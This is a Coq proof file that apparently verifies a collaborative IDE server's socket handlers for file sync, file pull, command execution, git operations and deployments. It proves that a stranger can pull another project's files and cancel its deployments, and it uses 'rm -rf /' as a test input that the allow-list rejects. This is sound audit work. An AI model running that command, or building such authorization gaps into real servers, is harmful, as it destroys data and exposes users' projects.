  destruct (sync_file_frame projectId file w) as [Ho Hc].
  unfold eval_world, exec_world in *.
  destruct (sync_file projectId file w) as [r' w1]. simpl in Hr, Ho, Hc. subst r'.
  destruct (IH w1) as [Ho1 Hc1].
  destruct (sync_loop projectId rest w1) as [[rs|e] w2]; simpl in *; split; congruence.
Qed.

(** The handler: an authenticated connection with access to the project
    is sent the results of the loop, one for each file of the batch, and
    the room is told how many files were in it. *)
Lemma sync_files_reports_loop socket data w p :
  truthy (userId socket) = true ->
  next_fault w = None ->
  Store.project_findFirst (sy_projectId data) (default "" (userId socket)) (db w) = Some p ->
  exists rs,
    eval_world (sync_loop (sy_projectId data) (sy_files data))
               (WorldOps.set_oracle (tail (oracle w)) w) = Ok rs /\
    em_event <$> emitted (sync_files socket data) w =
      [ EvSyncComplete rs;
        EvFilesSynced (user socket) (ide_type <$> ideInfo socket)
          (length (sy_files data)) (clock w) ].
Proof.
  intros Hauth Hf Hp.
  pose (w1 := WorldOps.set_oracle (tail (oracle w)) w).
  destruct (sync_loop_total (sy_projectId data) (sy_files data) w1) as (rs & Hrs & _).
  destruct (sync_loop_frame (sy_projectId data) (sy_files data) w1) as [Ho Hc].
  exists rs. split; [unfold eval_world; fold w1; by rewrite Hrs|].
  unfold sync_files, emitted, exec_world, try_catch, bind. rewrite Hauth.
  cbn [negb].
  assert (Hq : prisma (query (Store.project_findFirst (sy_projectId data)
                                (default "" (userId socket)))) w = (Ok (Some p), w1)).
  { subst w1. unfold next_fault in Hf.
    destruct w as [d ad act ide ob co cl o us sp sw]. mred_in Hf. mred_in Hp.
    destruct o as [|[so se|so se m] o]; try discriminate Hf; mred; by rewrite Hp. }
  rewrite Hq, Hrs.
  destruct (reached (sy_projectId data) (sy_files data) w1)
    as [d2 ad2 act2 ide2 ob2 co2 cl2 o2 us2 sp2 sw2] eqn:E2.
  cbn [outbox clock] in Ho, Hc.
  assert (Hob : ob2 = outbox w) by (subst w1; destruct w; exact Ho).
  assert (Hcl : cl2 = clock w) by (subst w1; destruct w; exact Hc).
  subst ob2 cl2. unfold touch_connection.
  destruct (find _ (ideConnections _)); mred; tidy; reflexivity.
Qed.

(** The loop over a batch is the loop over its beginning, the turn of
    the next file, and the loop over the rest. *)
Lemma reached_app projectId before file rest w :
  reached projectId (before ++ file :: rest) w =
    reached projectId rest (exec_world (sync_file projectId file) (reached projectId before w)).
Proof.
  unfold reached, exec_world. revert w.
  induction before as [|b before IH]; intros w.
  - simpl app. rewrite sync_loop_cons. cbn [sync_loop]. unfold ret. cbn [snd].
    destruct (sync_file_total projectId file w) as (r & Hr & _).
    unfold eval_world in Hr.
    destruct (sync_file projectId file w) as [r' w1]. simpl in Hr. subst r'. cbn [snd].
    destruct (sync_loop_total projectId rest w1) as (rs & Hrs & _). by rewrite Hrs.
  - simpl app. rewrite !sync_loop_cons.
    destruct (sync_file_total projectId b w) as (rb & Hr & _).
    unfold eval_world in Hr.
    destruct (sync_file projectId b w) as [r' w1]. simpl in Hr. subst r'.
    specialize (IH w1).
    destruct (sync_loop_total projectId (before ++ file :: rest) w1) as (rs & Hrs & _).
    destruct (sync_loop_total projectId before w1) as (rs1 & Hrs1 & _).
    rewrite Hrs, Hrs1 in *. cbn [snd] in *. exact IH.
Qed.

(** The store the handler leaves is the store the loop leaves. *)
Lemma sync_files_store socket data w p :
  truthy (userId socket) = true ->
  next_fault w = None ->
  Store.project_findFirst (sy_projectId data) (default "" (userId socket)) (db w) = Some p ->
  db (exec_world (sync_files socket data) w) =
    db (reached (sy_projectId data) (sy_files data)
          (WorldOps.set_oracle (tail (oracle w)) w)).
Proof.
  intros Hauth Hf Hp.
  pose (w1 := WorldOps.set_oracle (tail (oracle w)) w).
  destruct (sync_loop_total (sy_projectId data) (sy_files data) w1) as (rs & Hrs & _).
  fold w1. unfold sync_files, exec_world, try_catch, bind. rewrite Hauth.
  cbn [negb].
  assert (Hq : prisma (query (Store.project_findFirst (sy_projectId data)
                                (default "" (userId socket)))) w = (Ok (Some p), w1)).
  { subst w1. unfold next_fault in Hf.
    destruct w as [d ad act ide ob co cl o us sp sw]. mred_in Hf. mred_in Hp.
    destruct o as [|[so se|so se m] o]; try discriminate Hf; mred; by rewrite Hp. }
  rewrite Hq, Hrs.
  destruct (reached (sy_projectId data) (sy_files data) w1)
    as [d2 ad2 act2 ide2 ob2 co2 cl2 o2 us2 sp2 sw2] eqn:E2.
  unfold touch_connection.
  destruct (find _ (ideConnections _)); mred; reflexivity.
Qed.

(** C2: for every sync-files request of an authenticated connection
    with access to the project, and every file of its batch, the store
    calls of the turn of the file going through: the reply of the handler
    is sync-complete with one result for each file, the result at the
    place of the file carries its path, and on the store as the handler
    finds it when it reaches the file, a file whose path is stored is
    overwritten with the incoming content and reported updated when the
    incoming timestamp is strictly greater than the stored one; it is
    left as it is, with the whole store, and reported skipped when the
    incoming timestamp is equal or earlier; a file whose path is not
    stored is created with the incoming content and reported created.
    The store the handler leaves is the one the rest of the batch makes
    of the store after the turn of the file. *)
Theorem sync_files_last_write_wins socket data w p before file rest :
  truthy (userId socket) = true ->
  next_fault w = None ->
  Store.project_findFirst (sy_projectId data) (default "" (userId socket)) (db w) = Some p ->
  sy_files data = before ++ file :: rest ->
  let projectId := sy_projectId data in
  let w1 := reached projectId before (WorldOps.set_oracle (tail (oracle w)) w) in
  let w2 := exec_world (sync_file projectId file) w1 in
  let stored d := Store.projectFile_findByPath projectId (relativePath file) d in
  calls_fine 2 (oracle w1) = true ->
  exists r rs,
    em_event <$> emitted (sync_files socket data) w =
      [ EvSyncComplete rs;
        EvFilesSynced (user socket) (ide_type <$> ideInfo socket)
          (length (sy_files data)) (clock w) ] /\
    length rs = length (sy_files data) /\
    rs !! length before = Some r /\
    sr_path r = relativePath file /\
    db (exec_world (sync_files socket data) w) = db (reached projectId rest w2) /\
    (forall existing, stored (db w1) = Some existing ->
       ((file_updatedAt existing < lastModified file)%Z ->
          sr_status r = "updated" /\
          file_content <$> stored (db w2) = Some (content file)) /\
       ((lastModified file <= file_updatedAt existing)%Z ->
          sr_status r = "skipped" /\ db w2 = db w1)) /\
    (stored (db w1) = None ->
       sr_status r = "created" /\
       file_content <$> stored (db w2) = Some (content file)).
Proof.
  intros Hauth Hfault Hp Hfiles projectId w1 w2 stored Hf.
  set (w0 := WorldOps.set_oracle (tail (oracle w)) w) in *.
  destruct (sync_files_reports_loop socket data w p Hauth Hfault Hp) as (rs & Hrs & Hem).
  fold w0 in Hrs. fold projectId in Hrs. rewrite Hfiles in Hrs.
  destruct (sync_loop_nth projectId before file rest w0) as (r & rs' & H1 & H2 & H3).
  rewrite Hrs in H1. injection H1 as <-.
  destruct (sync_loop_total projectId (before ++ file :: rest) w0) as (rs'' & Htot & Hlen).
  unfold eval_world in Hrs. rewrite Htot in Hrs. cbn [fst] in Hrs. injection Hrs as ->.
  exists r, rs. split; [exact Hem|]. split; [by rewrite Hfiles|]. split; [done|].
  fold w1 in H3.
  pose proof (sync_file_step projectId file w1 Hf) as Hs. cbv zeta in Hs.
  fold w2 in Hs. rewrite H3 in Hs.
  assert (Hdb : db (exec_world (sync_files socket data) w) = db (reached projectId rest w2)).
  { rewrite (sync_files_store socket data w p Hauth Hfault Hp). fold w0. fold projectId.
    rewrite Hfiles, reached_app. reflexivity. }
  subst stored. cbv beta.
  destruct (Store.projectFile_findByPath projectId (relativePath file) (db w1))
    as [existing|] eqn:E.
  - destruct (file_updatedAt existing <? lastModified file)%Z eqn:Hlt.
    + destruct Hs as [Hr Hd]. injection Hr as ->. split; [done|]. split; [exact Hdb|].
      split; [|discriminate]. intros ex [= <-]. split.
      * intros _. split; [done|]. rewrite Hd.
        by rewrite (findByPath_after_update _ _ _ _ _ _ E).
      * intros Hle. apply Z.ltb_lt in Hlt. lia.
    + destruct Hs as [Hr Hd]. injection Hr as ->. split; [done|]. split; [exact Hdb|].
      split; [|discriminate]. intros ex [= <-]. split.
      * intros Hl. apply Z.ltb_ge in Hlt. lia.
      * done.
  - destruct Hs as [Hr Hd]. injection Hr as ->. split; [done|]. split; [exact Hdb|].
    split; [discriminate|]. intros _. split; [done|]. rewrite Hd.
    by rewrite (findByPath_after_create projectId (relativePath file) (db w1)
                  (created_file projectId file w1) E eq_refl eq_refl).
Qed.

(** The scenario of the specification, as a request of Bob's editor:
    the store holds a.txt written at 50; an incoming copy of 100 updates
    it, a later one of 40 in the same batch is skipped, and a new file
    is created; the store the handler leaves holds the content of the
    copy of 100. *)
Lemma sync_files_last_write_wins_witness :
  em_event <$> emitted (sync_files (Fixture.ide_socket_of Fixture.bob) three_files)
                       Fixture.world =
    [ EvSyncComplete [ result "a.txt" "updated" None None;
                       result "a.txt" "skipped" None None;
                       result "src/b.ts" "created" (Some "id-1") None ];
      EvFilesSynced (Some Fixture.bob) (Some "vscode") 3 1000 ] /\
  (fun f => (file_path f, file_content f)) <$>
    db_files (db (exec_world (sync_files (Fixture.ide_socket_of Fixture.bob) three_files)
                             Fixture.world)) =
    [ ("a.txt", "v1"); ("src/b.ts", "export {}") ] /\
  exists r rs,
    em_event <$> emitted (sync_files (Fixture.ide_socket_of Fixture.bob) three_files)
                         Fixture.world =
      [ EvSyncComplete rs;
        EvFilesSynced (Some Fixture.bob) (Some "vscode") 3 1000 ] /\
    rs !! 1%nat = Some r /\ sr_path r = "a.txt" /\ sr_status r = "skipped".
Proof.
  split; [vm_compute; reflexivity|]. split; [vm_compute; reflexivity|].
  destruct (sync_files_last_write_wins (Fixture.ide_socket_of Fixture.bob) three_files
              Fixture.world
              {| project_id := "p1"; project_name := "site"; project_roomId := "r1" |}
              [newer] stale [fresh] eq_refl eq_refl eq_refl eq_refl)
    as (r & rs & H1 & _ & H2 & H3 & _ & H4 & _).
  - vm_compute. reflexivity.
  - exists r, rs. split; [exact H1|]. split; [exact H2|]. split; [exact H3|].
    edestruct H4 as [_ Hskip]; [vm_compute; reflexivity|].
    apply Hskip. vm_compute. discriminate.
Defined.

(** *** pull-files *)

(** C9: the reply to pull-files is the same for any two authenticated
    connections, whoever their users are, on any two worlds that agree on
    the file table (and on the outcome of the store call): the rooms, the
    owners and the members are not looked at.  When the store call goes
    through, the reply carries the files of the project named, newer than
    the timestamp given when one is given. *)
Theorem pull_files_caller_independent s1 s2 data w1 w2 :
  truthy (userId s1) = true ->
  truthy (userId s2) = true ->
  db_files (db w1) = db_files (db w2) ->
  oracle w1 = oracle w2 ->
  em_event <$> emitted (pull_files s1 data) w1 =
  em_event <$> emitted (pull_files s2 data) w2 /\
  (next_fault w1 = None ->
     em_event <$> emitted (pull_files s1 data) w1 =
     [EvFilesPulled (pulled <$> Store.projectFile_findMany (pl_projectId data)
                                  (since_clause (pl_lastSync data)) (db w1))]).
Proof.
  intros Ha1 Ha2 Hfiles Ho.
  destruct w1 as [d1 ad1 act1 ide1 ob1 co1 cl1 o1 us1 sp1 sw1].
  destruct w2 as [d2 ad2 act2 ide2 ob2 co2 cl2 o2 us2 sp2 sw2].
  mred_in Hfiles. mred_in Ho. subst o2.
  unfold pull_files, next_fault. rewrite Ha1, Ha2.
  destruct o1 as [|[so se|so se m] o]; mred; tidy;
    unfold Store.projectFile_findMany; rewrite ?Hfiles; split; try done.
Qed.

(** Eve, a stranger to the room of p1, pulls the files of p1 and is
    sent what Ann, the owner, is sent. *)
Lemma pull_files_caller_independent_witness :
  em_event <$> emitted (pull_files (Fixture.ide_socket_of Fixture.eve) pull_p1)
                       Fixture.world =
  em_event <$> emitted (pull_files (Fixture.ide_socket_of Fixture.ann) pull_p1)
                       Fixture.world /\
  em_event <$> emitted (pull_files (Fixture.ide_socket_of Fixture.eve) pull_p1)
                       Fixture.world =
  [EvFilesPulled [ {| pf_id := "f1"; pf_name := "a.txt"; pf_relativePath := "a.txt";
                      pf_content := "v0"; pf_language := "text";
                      pf_lastModified := 50 |} ]].
Proof.
  destruct (pull_files_caller_independent
              (Fixture.ide_socket_of Fixture.eve) (Fixture.ide_socket_of Fixture.ann)
              pull_p1 Fixture.world Fixture.world
              eq_refl eq_refl eq_refl eq_refl) as [H1 H2].
  split; [exact H1|]. rewrite (H2 eq_refl). vm_compute. reflexivity.
Defined.

(** *** execute-command *)

(** C5: a command that starts with none of the prefixes of the
    allow-list is turned down before any process is spawned, an
    authenticated connection being sent the command-not-allowed error
    and nothing else; so is [rm -rf /]; and when the process of an
    allowed command fails, the connection is sent command-completed with
    [success: false] and the captured output, the room is told, and no
    error event is emitted. *)
Theorem execute_command_allow_list socket data w :
  (allowed (cm_command data) = false ->
     spawned (exec_world (execute_command socket data) w) = spawned w /\
     (truthy (userId socket) = true ->
        emitted (execute_command socket data) w =
          [command_error socket "Command not allowed"])) /\
  (cm_command data = "rm -rf /" ->
     spawned (exec_world (execute_command socket data) w) = spawned w) /\
  (allowed (cm_command data) = true ->
   truthy (userId socket) = true ->
   forall so se m o, oracle w = Fault so se m :: o ->
     existsb is_command_error (emitted (execute_command socket data) w) = false /\
     em_event <$> emitted (execute_command socket data) w =
       [ EvCommandStarted (cm_command data) (command_cwd socket data);
         EvCommandCompleted (cm_command data) (or_else (Some so) "")
           (or_else (Some se) m) false (clock w);
         EvTeamCommandExecuted (user socket) (cm_command data) false (Some m)
           (clock w) ]).
Proof.
  assert (Hrej : allowed (cm_command data) = false ->
     spawned (exec_world (execute_command socket data) w) = spawned w /\
     (truthy (userId socket) = true ->
        emitted (execute_command socket data) w =
          [command_error socket "Command not allowed"])).
  { intros Hno. destruct w as [d ad act ide ob co cl o us sp sw].
    unfold execute_command, command_error. rewrite Hno.
    destruct (truthy (userId socket)); mred; tidy; split; try done. }
  split; [exact Hrej|]. split.
  - intros Hc. apply Hrej. rewrite Hc. reflexivity.
  - intros Hyes Hauth so se m o Ho.
    destruct w as [d ad act ide ob co cl o' us sp sw]. mred_in Ho. subst o'.
    unfold execute_command. rewrite Hyes, Hauth. mred. tidy. split; reflexivity.
Qed.

(** [rm -rf /] from Bob's editor spawns nothing; his failing test run is
    reported as completed without success. *)
Lemma execute_command_allow_list_witness :
  spawned (exec_world (execute_command (Fixture.ide_socket_of Fixture.bob) rm_rf)
                      Fixture.world) = [] /\
  emitted (execute_command (Fixture.ide_socket_of Fixture.bob) rm_rf) Fixture.world =
    [command_error (Fixture.ide_socket_of Fixture.bob) "Command not allowed"] /\
  em_event <$> emitted (execute_command (Fixture.ide_socket_of Fixture.bob) npm_test)
                       tests_fail =
    [ EvCommandStarted "npm run test" (Some "/home/bob");
      EvCommandCompleted "npm run test" "1 failing" "Command failed: npm run test"
        false 1000;
      EvTeamCommandExecuted (Some Fixture.bob) "npm run test" false
        (Some "Command failed: npm run test") 1000 ].
Proof.
  destruct (execute_command_allow_list (Fixture.ide_socket_of Fixture.bob) rm_rf
              Fixture.world) as (H1 & H2 & _).
  destruct (execute_command_allow_list (Fixture.ide_socket_of Fixture.bob) npm_test
              tests_fail) as (_ & _ & H3).
  split; [exact (H2 eq_refl)|]. split.
  - destruct (H1 eq_refl) as [_ He]. exact (He eq_refl).
  - destruct (H3 eq_refl eq_refl "1 failing" "" "Command failed: npm run test" []
                eq_refl) as [_ He].
    exact He.
Defined.

(** *** git-operation *)

Lemma registered_inv socket :
  registered socket = true ->
  truthy (userId socket) = true /\ truthy (ide_workspacePath <$> ideInfo socket) = true.
Proof. unfold registered. intros H. by apply andb_true_iff in H. Qed.

(** When the command succeeds, and the user and the project of the
    row are in the store, the operation is recorded and the room is
    told. *)
Lemma git_operation_success_recorded socket data w command :
  registered socket = true ->
  git_command (g_operation data) (g_params data) = Some command ->
  calls_fine 2 (oracle w) = true ->
  Store.user_exists (default "" (userId socket)) (db w) = true ->
  Store.project_exists (g_projectId data) (db w) = true ->
  length (db_gitOperations (db (exec_world (git_operation socket data) w))) =
    S (length (db_gitOperations (db w))) /\
  existsb (is_team_git (g_roomId data)) (emitted (git_operation socket data) w) = true /\
  existsb is_git_result (emitted (git_operation socket data) w) = true.
Proof.
  intros Hreg Hcmd Hf Hus Hpr. apply registered_inv in Hreg as [Hu Hp].
  destruct w as [d ad act ide ob co cl o us sp sw]. mred_in Hf. mred_in Hus. mred_in Hpr.
  unfold git_operation. rewrite Hu, Hp, Hcmd.
  destruct o as [|[so se|so se m] [|[so' se'|so' se' m'] o]]; try discriminate Hf;
    mred; unfold Store.gitOperation_create, Store.set_gitOperations;
    cbn [go_userId go_projectId]; rewrite Hus, Hpr; mred; tidy;
    cbn [existsb is_team_git is_git_result em_target em_event mk_emit db_gitOperations];
    rewrite String.eqb_refl, length_app; cbn [length orb];
    (split; [lia|]); split; reflexivity.
Qed.

(** C7, what the code does against the claim: when the git command
    fails, the caller is sent a git-result with [success: false], and
    that is all; no row is added to the audit table, the store is as it
    was, and nothing is broadcast to the room. *)
Theorem git_operation_failure_unrecorded socket data w command so se m o :
  registered socket = true ->
  git_command (g_operation data) (g_params data) = Some command ->
  oracle w = Fault so se m :: o ->
  db (exec_world (git_operation socket data) w) = db w /\
  emitted (git_operation socket data) w =
    [git_result socket (g_operation data) (or_else (Some so) "") (or_else (Some se) m)
       false].
Proof.
  intros Hreg Hcmd Ho. apply registered_inv in Hreg as [Hu Hp].
  destruct w as [d ad act ide ob co cl o' us sp sw]. mred_in Ho. subst o'.
  unfold git_operation, git_result. rewrite Hu, Hp, Hcmd.
  mred. tidy. split; reflexivity.
Qed.

(** Bob asks for the status of a workspace that is not a repository. *)
Lemma git_operation_failure_unrecorded_witness :
  db_gitOperations
    (db (exec_world (git_operation (Fixture.ide_socket_of Fixture.bob) git_status)
                    not_a_repository)) = [] /\
  em_event <$> emitted (git_operation (Fixture.ide_socket_of Fixture.bob) git_status)
                       not_a_repository =
    [EvGitResult "status" "" "fatal: not a git repository" false] /\
  ~ git_claim (Fixture.ide_socket_of Fixture.bob) git_status not_a_repository.
Proof.
  destruct (git_operation_failure_unrecorded (Fixture.ide_socket_of Fixture.bob)
              git_status not_a_repository "git status --porcelain"
              "" "fatal: not a git repository" "Command failed: git status --porcelain"
              [] eq_refl eq_refl eq_refl) as [Hd He].
  split; [by rewrite Hd|]. split; [by rewrite He|].
  intros H. destruct (H eq_refl) as [Hl _]. rewrite Hd in Hl. discriminate Hl.
Defined.

End BridgeSpec.

(** ** deployment.ts: start-deployment, cancel-deployment, the task *)

Module DeploymentSpec.
Import Deployment DeploymentClaims.

Ltac dred :=
  cbv beta iota zeta delta
    [exec_world eval_world emitted logged bind ret throw try_catch prisma query
     await_ext execAsync new_Date randomUUID generated_id console_error emit socket_emit socket_to
     nsp_to socket_join set_db set_adapter set_activeDeployments set_ideConnections
     set_outbox set_console set_clock set_oracle set_uuids set_spawned set_statusWrites
     db adapter activeDeployments ideConnections outbox console clock oracle uuids
     spawned statusWrites fst snd plain_error err_message err_stdout err_stderr
     negb orb
     verify get_deployment update_deployment assign_status set_deployment updateProgress
     fs_call fileExists current_logs current_endTime on_failure launch
     install_dependencies begin_deploy deploy_step deployToVercel deployToNetlify
     deployToGitHubPages deployToDocker implemented stage resume start_head start_tail
     start_failed start_deployment cancel_deployment step settles
     Store.deployment_update Store.deployment_create Store.not_found].

Ltac dred_in H :=
  cbv beta iota zeta delta
    [exec_world eval_world emitted logged bind ret throw try_catch prisma query
     await_ext execAsync new_Date randomUUID generated_id console_error emit socket_emit socket_to
     nsp_to socket_join set_db set_adapter set_activeDeployments set_ideConnections
     set_outbox set_console set_clock set_oracle set_uuids set_spawned set_statusWrites
     db adapter activeDeployments ideConnections outbox console clock oracle uuids
     spawned statusWrites fst snd plain_error err_message err_stdout err_stderr
     negb orb
     verify get_deployment update_deployment assign_status set_deployment updateProgress
     fs_call fileExists current_logs current_endTime on_failure launch
     install_dependencies begin_deploy deploy_step deployToVercel deployToNetlify
     deployToGitHubPages deployToDocker implemented stage resume start_head start_tail
     start_failed start_deployment cancel_deployment step settles
     Store.deployment_update Store.deployment_create Store.not_found] in H.

(** One case distinction on what the run of a handler is waiting for:
    the next outcome of the oracle, a row being there, a branch of the
    configuration. *)
Ltac case_split :=
  match goal with
  | |- context [match ?o with [] => _ | _ :: _ => _ end] =>
      is_var o; destruct o as [|[? ?|? ? ?] ?]
  | |- context [match ?m !! ?k with _ => _ end] => destruct (m !! k)
  | |- context [if existsb ?f ?l then _ else _] => destruct (existsb f l)
  | |- context [if truthy ?x then _ else _] => destruct (truthy x)
  | |- context [match provider ?c with _ => _ end] => destruct (provider c)
  | |- context [if String.eqb ?a ?b then _ else _] => destruct (String.eqb a b)
  end.

Ltac cases := repeat (case_split; dred).

Example vercel_url :
  url_match "" "Production: https://site-abc.vercel.app [2s]" =
    Some "https://site-abc.vercel.app".
Proof. reflexivity. Qed.

Example netlify_url_absent : url_match "Live Draft URL: " "Deploy is live!" = None.
Proof. reflexivity. Qed.

Example compress_repeated :
  compress [pending; building; building; building; deploying; success] =
    [pending; building; deploying; success].
Proof. reflexivity. Qed.

Lemma find_all_false {A} (p : A -> bool) (l : list A) :
  (forall x, In x l -> p x = false) -> find p l = None.
Proof.
  induction l as [|x l IH]; intros H; simpl; [done|].
  rewrite (H x (or_introl eq_refl)). apply IH. intros y Hy. apply H. by right.
Qed.

Lemma user_findUnique_id uid d u : Store.user_findUnique uid d = Some u -> user_id u = uid.
Proof.
  unfold Store.user_findUnique. intros H. apply find_some in H as [_ H].
  by apply String.eqb_eq.
Qed.

(** The project query of start-deployment finds nothing for a caller
    who neither owns nor belongs to the room of the project. *)
Lemma project_query_denied d projectId uid :
  no_access d projectId uid -> project_with_includes projectId uid d = None.
Proof.
  intros Hno. unfold project_with_includes, Store.project_findFirst.
  rewrite find_all_false; [done|].
  intros p Hp. destruct (String.eqb (project_id p) projectId) eqn:Eid; [|done].
  apply String.eqb_eq in Eid. simpl.
  unfold Store.project_room_grants.
  destruct (existsb _ (db_rooms d)) eqn:Ex; [|done].
  apply existsb_exists in Ex as (r & Hr & H).
  apply andb_true_iff in H as [Hrid Hgr]. apply String.eqb_eq in Hrid.
  destruct (Hno p r Hp Eid Hr Hrid) as [Hown Hmem].
  unfold Store.owner_or_member in Hgr. apply orb_true_iff in Hgr as [Hgr|Hgr].
  - apply String.eqb_eq in Hgr. done.
  - apply members_some_spec in Hgr. done.
Qed.

(** C6: start-deployment from a caller whose token verifies and whose
    user exists, and who neither owns nor belongs to the room of the
    project: no deployment is entered in the in-memory table, the store is
    left as it was, the connection joins no room, and the one message is
    an error sent to the caller, which is the access-denied error when the
    two store queries go through. *)
Theorem start_deployment_denied jwt socket data w uid u :
  jwt (sd_token data) = Some uid ->
  Store.user_findUnique uid (db w) = Some u ->
  no_access (db w) (sd_projectId data) uid ->
  let w' := exec_world (start_deployment jwt socket data) w in
  activeDeployments w' = activeDeployments w /\
  db w' = db w /\
  adapter w' = adapter w /\
  (exists message,
     emitted (start_deployment jwt socket data) w = [deployment_error socket message]) /\
  (calls_fine 2 (oracle w) = true ->
     emitted (start_deployment jwt socket data) w =
       [deployment_error socket "Project not found or access denied"]).
Proof.
  intros Hjwt Hu Hno. pose proof (user_findUnique_id _ _ _ Hu) as Hid.
  pose proof (project_query_denied _ _ _ Hno) as Hq.
  destruct w as [d ad act ide ob co cl o us sp sw]. mred_in Hu. mred_in Hq.
  unfold deployment_error.
  destruct o as [|[so se|so se m] [|[so' se'|so' se' m'] o]];
    dred; rewrite Hjwt; dred; rewrite ?Hu; dred; rewrite ?Hid, ?Hq; dred; tidy;
    repeat split; try done; try (by eexists).
Qed.

(** Eve's token verifies, she neither owns nor belongs to r1: her
    start-deployment for p1 creates nothing and she is told so. *)
Lemma start_deployment_denied_witness :
  let w' := exec_world (start_deployment Fixture.jwt_verify "s-eve" eve_starts_p1)
                       Fixture.world in
  activeDeployments w' = ∅ /\ db_deployments (db w') = [] /\
  emitted (start_deployment Fixture.jwt_verify "s-eve" eve_starts_p1) Fixture.world =
    [deployment_error "s-eve" "Project not found or access denied"].
Proof.
  assert (Hno : no_access (db Fixture.world) "p1" "eve").
  { intros p r Hp Hpid Hr Hrid. simpl in Hp, Hr.
    destruct Hp as [<-|[]]. simpl in Hrid.
    destruct Hr as [<-|[<-|[]]]; [|discriminate]. split; [discriminate|].
    intros (m & [<-|[]] & _ & Hm). discriminate. }
  destruct (start_deployment_denied Fixture.jwt_verify "s-eve" eve_starts_p1
              Fixture.world "eve" Fixture.eve eq_refl eq_refl Hno)
    as (Ha & Hd & _ & _ & He).
  cbv zeta. rewrite Ha, Hd. split; [done|]. split; [done|]. exact (He eq_refl).
Defined.

(** *** cancel-deployment *)

Lemma cancel_table jwt socket data w uid d :
  jwt (cd_token data) = Some uid ->
  activeDeployments w !! cd_deploymentId data = Some d ->
  activeDeployments (exec_world (cancel_deployment jwt socket data) w) =
    if cancellable d
    then alter (with_endTime (clock w)) (cd_deploymentId data)
           (alter (with_error "Cancelled by user") (cd_deploymentId data)
              (alter (with_status failed) (cd_deploymentId data) (activeDeployments w)))
    else activeDeployments w.
Proof.
  intros Hjwt Hd.
  destruct w as [dd ad act ide ob co cl o us sp sw]. mred_in Hd.
  dred. rewrite Hjwt. dred. rewrite Hd.
  destruct (cancellable d); [|reflexivity].
  dred. cases; reflexivity.
Qed.

(** C8: cancel-deployment with any token that verifies, on a deployment
    that is pending or building: the deployment is set to failed, with
    the cancellation as its error and the time of the request as its end
    time, its other fields and the other deployments being left as they
    are, whoever the token belongs to and whatever socket asks and
    whatever the store answers; no owner, no project and no room is
    looked up, and another caller's request makes the same table.  When
    the store call goes through, the row of the deployment is set to
    FAILED with the same error and end time, the caller is sent
    deployment-cancelled and the others of the room the caller named are
    sent team-deployment-cancelled. *)
Theorem cancel_deployment_any_caller jwt socket data w uid d :
  jwt (cd_token data) = Some uid ->
  activeDeployments w !! cd_deploymentId data = Some d ->
  dep_status d = pending \/ dep_status d = building ->
  let w' := exec_world (cancel_deployment jwt socket data) w in
  activeDeployments w' !! cd_deploymentId data = Some (cancelled (clock w) d) /\
  (fun d' => (dep_status d', dep_error d', dep_endTime d')) <$>
    activeDeployments w' !! cd_deploymentId data =
    Some (failed, Some "Cancelled by user", Some (clock w)) /\
  (forall id, id <> cd_deploymentId data ->
     activeDeployments w' !! id = activeDeployments w !! id) /\
  (next_fault w = None ->
   existsb (fun r => String.eqb (dr_id r) (cd_deploymentId data)) (db_deployments (db w))
     = true ->
     db_deployments (db w') =
       map (fun r => if String.eqb (dr_id r) (cd_deploymentId data)
                     then cancelled_row (clock w) r else r) (db_deployments (db w)) /\
     emitted (cancel_deployment jwt socket data) w = cancel_notices socket data w) /\
  (forall socket' token' roomId' uid',
     jwt token' = Some uid' ->
     activeDeployments
       (exec_world (cancel_deployment jwt socket'
                      {| cd_token := token'; cd_deploymentId := cd_deploymentId data;
                         cd_roomId := roomId' |}) w)
     = activeDeployments w').
Proof.
  intros Hjwt Hd Hst w'. subst w'.
  assert (Hc : cancellable d = true).
  { unfold cancellable. by destruct Hst as [-> | ->]. }
  rewrite (cancel_table jwt socket data w uid d Hjwt Hd), Hc.
  split; [|split; [|split; [|split]]].
  - rewrite !lookup_alter_eq, Hd. reflexivity.
  - rewrite !lookup_alter_eq, Hd. reflexivity.
  - intros id Hne. by rewrite !lookup_alter_ne.
  - unfold next_fault, cancel_notices, cancelled_row. intros Hf Hrow.
    destruct w as [dd ad act ide ob co cl o us sp sw]. dred_in Hd. dred_in Hf.
    dred_in Hrow. dred. rewrite Hjwt. dred. rewrite Hd, Hc. dred.
    destruct o as [|[so se|so se m] o]; try discriminate Hf; dred; rewrite Hrow; dred;
      tidy; split; reflexivity.
  - intros socket' token' roomId' uid' Hjwt'.
    rewrite (cancel_table jwt socket'
               {| cd_token := token'; cd_deploymentId := cd_deploymentId data;
                  cd_roomId := roomId' |} w uid' d Hjwt' Hd), Hc.
    reflexivity.
Qed.

(** Eve, a stranger to the room and the project, cancels the deployment
    Ann started: it is failed, with the time of her request as its end
    time, and its row says so. *)
Lemma cancel_deployment_any_caller_witness :
  (fun d => (dep_status d, dep_error d, dep_endTime d)) <$>
    activeDeployments
      (exec_world (cancel_deployment Fixture.jwt_verify "s-eve"
                     {| cd_token := "tok-eve"; cd_deploymentId := "id-1";
                        cd_roomId := "r2" |}) building_world) !! "id-1"
  = Some (failed, Some "Cancelled by user", Some 1001%Z) /\
  (fun r => (dr_status r, dr_endedAt r)) <$>
    db_deployments
      (db (exec_world (cancel_deployment Fixture.jwt_verify "s-eve"
                         {| cd_token := "tok-eve"; cd_deploymentId := "id-1";
                            cd_roomId := "r2" |}) building_world))
  = [("FAILED", Some 1001%Z)].
Proof.
  destruct (cancel_deployment_any_caller Fixture.jwt_verify "s-eve"
              {| cd_token := "tok-eve"; cd_deploymentId := "id-1"; cd_roomId := "r2" |}
              building_world "eve"
              {| dep_id := "id-1"; dep_status := building; dep_progress := 10;
                 dep_logs := ["[1001] Preparing project files..."];
                 dep_url := None; dep_error := None; dep_startTime := 1000;
                 dep_endTime := None |}
              eq_refl) as (_ & H1 & _ & H3 & _).
  - vm_compute. reflexivity.
  - right. reflexivity.
  - cbv zeta in H1, H3. cbn [cd_deploymentId] in H1, H3. split.
    + rewrite H1. reflexivity.
    + destruct H3 as [-> _]; [reflexivity | reflexivity |]. vm_compute. reflexivity.
Defined.

(** *** The status sequence of a deployment *)

Lemma compress_cons2 a b r :
  compress (a :: b :: r) =
    if decide (a = b) then compress (b :: r) else a :: compress (b :: r).
Proof. reflexivity. Qed.

Lemma compress_cons_ne a r : compress (a :: r) <> [].
Proof.
  revert a. induction r as [|b r IH]; intros a; [done|].
  rewrite compress_cons2. destruct (decide (a = b)); [apply IH|done].
Qed.

Lemma last_compress l : last (compress l) = last l.
Proof.
  induction l as [|a l IH]; [done|]. destruct l as [|b r]; [done|].
